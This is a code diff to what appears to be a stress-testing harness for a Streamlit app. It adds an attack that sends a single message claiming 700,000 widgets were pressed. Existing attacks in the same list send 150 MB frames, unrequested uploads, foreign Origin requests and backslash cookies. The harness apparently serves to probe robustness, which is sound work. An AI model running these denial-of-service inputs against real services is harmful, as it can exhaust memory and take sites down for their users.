@@ -6,6 +6,7 @@ import asyncio
 import contextlib
 import time
 from collections.abc import Awaitable, Callable
+from functools import cache
 
 import httpx
 from streamlit.proto.BackMsg_pb2 import BackMsg
@@ -19,6 +20,7 @@ LARGE, VAST = 19 * 2**20, 150 * 2**20
 """Bytes of an upload that is just allowed, and of a frame that nobody needs."""
 ELSEWHERE = "http://elsewhere.example"
 AT_ONCE = 4
+PARTS = 700_000
 
 Attack = Callable[[str], Awaitable[object]]
 
@@ -68,6 +70,25 @@ async def send_vast_frame(address: str) -> int:
     return connection.close_code or 0
 
 
+async def send_many_parts(address: str) -> None:
+    """One message of 700,000 parts, each of which becomes an object, and the page behind it."""
+    connection = await connected(address)
+    try:
+        await connection.send(write_many_parts())
+        await Viewer(connection, "", "").rerun()
+    finally:
+        await connection.close()
+
+
+@cache
+def write_many_parts() -> bytes:
+    """A message that says of so many widgets that they were pressed."""
+    message = BackMsg()
+    for number in range(PARTS):
+        message.rerun_script.widget_states.widgets.add(id=str(number), trigger_value=True)
+    return message.SerializeToString()
+
+
 async def come_from_elsewhere(address: str) -> int:
     """Open the board from a page of somebody else's; gives the answer's status."""
     try:
@@ -91,6 +112,7 @@ ATTACKS: dict[str, Attack] = {
     "clear_cache": empty_caches,
     "uploads of 19 MB": upload_unasked,
     "frames of 150 MB": send_vast_frame,
+    "messages of 700,000 parts": send_many_parts,
     "foreign Origins": come_from_elsewhere,
     "cookies of backslashes": send_backslashes,
 }
